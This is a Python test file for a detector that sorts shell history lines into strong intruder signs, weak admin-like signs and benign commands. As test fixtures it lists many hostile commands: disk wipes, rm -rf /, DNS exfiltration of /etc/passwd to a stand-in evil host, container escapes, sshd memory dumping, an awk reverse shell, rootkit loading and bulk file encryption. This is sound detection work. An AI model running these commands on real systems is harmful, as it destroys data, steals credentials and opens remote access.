# SPDX-License-Identifier: Apache-2.0
"""Destruction, credentials, spreading and escape by one command are told; what administrators type stays unsaid or weak."""

from __future__ import annotations

import resource
import subprocess
import sys

import polars as pl
import pytest

from headwater.detect.commands import suspicious


def traits(line: str) -> set[tuple[str, bool]]:
    found = suspicious(pl.DataFrame({"line": [line]}), "line")
    return {(t.name, t.strong) for t in found.get(line, [])}


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("rm -rf --no-preserve-root /", "destroy"),
        ("rm -rf /*", "destroy"),
        ("strace -p $(pgrep -f sshd) -e trace=read -o /root/k", "process-memory"),
        ("gcore -o /root/x $(pgrep sshd)", "process-memory"),
        ("impacket-psexec admin@10.0.0.3", "remote-tool"),
        ("python3 secretsdump.py a:b@10.0.0.3", "remote-tool"),
        ("./mimipenguin.sh", "credentials"),
        ("xxd -p /etc/passwd | while read l; do dig $l.evil.example; done", "exfiltrate-dns"),
        ("docker run -v /:/host --privileged alpine chroot /host sh", "container-escape"),
        ("nsenter --target 1 --mount sh", "container-escape"),
        ("trap /tmp/.x/agent DEBUG", "trap-run"),
        ("/root/.acme/run", "hidden-run"),
        ("nohup /opt/.venvs/x &", "hidden-run"),
        ("mkfs.ext4 -F /dev/sda", "destroy-disk"),
        ("wipefs -a /dev/sd*", "destroy-disk"),
        ("shred -n1 /dev/sda /dev/sdb", "destroy-disk"),
        ("for d in /dev/sd?; do dd if=/dev/zero of=$d bs=1M & done", "destroy-disk"),
        ("lsblk -dno NAME | xargs -I{} wipefs -a /dev/{}", "destroy-disk"),
        ("cat /dev/urandom > /dev/vda", "destroy-disk"),
        ("sgdisk --zap-all /dev/nvme0n1", "destroy-disk"),
        ("/proc/self/fd/3 -c cfg", "memory-run"),
        ("exec /proc/$$/fd/9", "memory-run"),
        ("perl -e 'my $fd = syscall(319, $name, 1);'", "memory-run"),
        ("python3 -c \"import os;f=os.memfd_create('x',1);os.execve('/proc/self/fd/%d'%f,['x'],{})\"", "memory-run"),
        (
            "iptables -t nat -A PREROUTING -p tcp --dport 3306 -j DNAT --to-destination 203.0.113.9:3306",
            "redirect-outside",
        ),
        ("nft add rule ip nat prerouting tcp dport 443 dnat to 203.0.113.9:443", "redirect-outside"),
        ("firewall-cmd --add-forward-port=port=80:proto=tcp:toaddr=203.0.113.9:toport=80", "redirect-outside"),
        ("socat TCP-LISTEN:8443,fork,reuseaddr TCP:203.0.113.9:443", "redirect-outside"),
        (
            "iptables -t nat -A PREROUTING -p tcp --dport 80 -m string --string KEY --algo bm -j REDIRECT --to-port 22",
            "port-reuse",
        ),
        ("insmod diamorphine.ko", "kernel-module"),
        ("awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/44\"; while(1) {s |& getline c; c |& getline}}'", "reverse-shell"),
    ],
)
def test_an_intruders_command_is_strong(line: str, name: str) -> None:
    assert (name, True) in traits(line)


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("dd if=/dev/zero of=/dev/sdb bs=1M", "wipe-disk"),
        ("mkfs.xfs /dev/vdb1", "wipe-disk"),
        ("samba-tool user create bob", "domain-account"),
        ("systemctl mask sleep.target suspend.target", "no-sleep"),
        ("blkdiscard -f /dev/sdb", "wipe-disk"),
        ("iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080", "redirect"),
        ("nft add rule ip nat prerouting tcp dport 80 redirect to :8080", "redirect"),
        ("socat TCP-LISTEN:8443,fork TCP:127.0.0.1:443", "redirect"),
        ("mysql -e 'DROP DATABASE shop'", "drop-database"),
        ("setenforce 0", "defence-off"),
        ("systemctl stop firewalld", "defence-off"),
        ("find / -name id_rsa", "key-search"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "key-search"),
    ],
)
def test_what_administrators_do_as_well_is_weak(line: str, name: str) -> None:
    assert (name, False) in traits(line)
    assert not any(strong for _, strong in traits(line))


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /var/cache/apt", "rm -r ./build /srv/old", "dd if=/dev/zero of=/swapfile bs=1M count=1024", "strace -f -o out ls",
        "gdb ./server core", "docker run --rm -v /srv/data:/data alpine ls", "dig example.org", "for h in a b; do host $h; done",
        "mysql -e 'show databases'", "modprobe br_netfilter", "systemctl restart firewalld", "iptables -L -n", "find . -name '*.py'",
        "curl http://169.254.169.254/latest/meta-data/instance-id", "netstat -tlnp", "docker exec -it web sh",
        "wipefs /dev/sda", "mkfs.ext4 disk.img", "man mkfs.ext4", "mkswap /dev/vdb2", "dd if=debian.iso of=/dev/sdc", "echo hi > /dev/null",
        '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null', "nohup /root/.nvm/versions/node/v18.0.0/bin/node app.js &",
        "/bin/sh -c echo BECOME-SUCCESS-abc ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-1/AnsiballZ_command.py",
        "/opt/app/.venv/bin/gunicorn app:app", "/root/.cargo/bin/rg x", "sh /root/.vscode-server/bin/abc/server.sh", "trap 'rm -f /tmp/lock' EXIT", "trap - INT",
        "ls -l /proc/self/fd/", "/proc/self/fd/6 init", "grep memfd_create /usr/include/sys/mman.h", "strace -e trace=memfd_create ls",
        "/usr/sbin/iptables --wait -t nat -A DOCKER -p tcp -d 0/0 --dport 8080 -j DNAT --to-destination 172.17.0.2:80 ! -i docker0",
        "iptables -t nat -A KUBE-SEP-ABC -p tcp -m tcp -j DNAT --to-destination 10.244.0.5:53", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    ],
)  # fmt: skip
def test_everyday_commands_have_none_of_them(line: str) -> None:
    new = {
        "destroy",
        "process-memory",
        "remote-tool",
        "exfiltrate-dns",
        "container-escape",
        "wipe-disk",
        "drop-database",
        "defence-off",
        "key-search",
        "destroy-disk",
        "memory-run",
        "redirect",
        "redirect-outside",
        "port-reuse",
        "trap-run",
        "hidden-run",
        "domain-account",
        "no-sleep",
    }
    assert not {n for n, _ in traits(line)} & new


@pytest.mark.parametrize(
    "line",
    [
        "for f in /srv/*; do openssl enc -aes-256-cbc -in $f -out $f.enc; done",
        "find / -type f -exec gpg --batch --yes -c {} \\;",
        "find /data -name '*.db' | xargs ./my-xor -k 7",
        "for i in *; do mcrypt-tool $i; done",
        "for f in *.docx; do mv \"$f\" \"$f.locked\"; done",
    ],
)  # fmt: skip
def test_encryption_in_bulk_is_told_whatever_does_it(line: str) -> None:
    assert ("encrypt-files", True) in traits(line)


_CRAFTED = """
import polars as pl
from headwater.detect.commands import suspicious

for unit in ("for-", "for gpg ", "for a-", "mv for ", "dig for ", "usermod -", "useradd -o", "nc -", "scp "):
    lines = [(unit * 4096)[: 4096 - len(tail)] + tail for tail in (" crypt", " $a.")]
    suspicious(pl.DataFrame({"line": lines}), "line")
    print(unit)
"""


def _few_seconds() -> None:  # of the processor, however busy the machine is
    resource.setrlimit(resource.RLIMIT_CPU, (15, 15))


def test_a_line_crafted_against_the_expressions_comes_to_an_end() -> None:
    """``for-for-for-…`` of 4 KiB once took 44 CPU s of one expression, and a history has thousands of lines."""
    done = subprocess.run(
        [sys.executable, "-c", _CRAFTED], capture_output=True, preexec_fn=_few_seconds, check=False, text=True
    )
    assert (done.returncode, len(done.stdout.splitlines())) == (0, 9), done.stdout[-200:] + done.stderr[-300:]
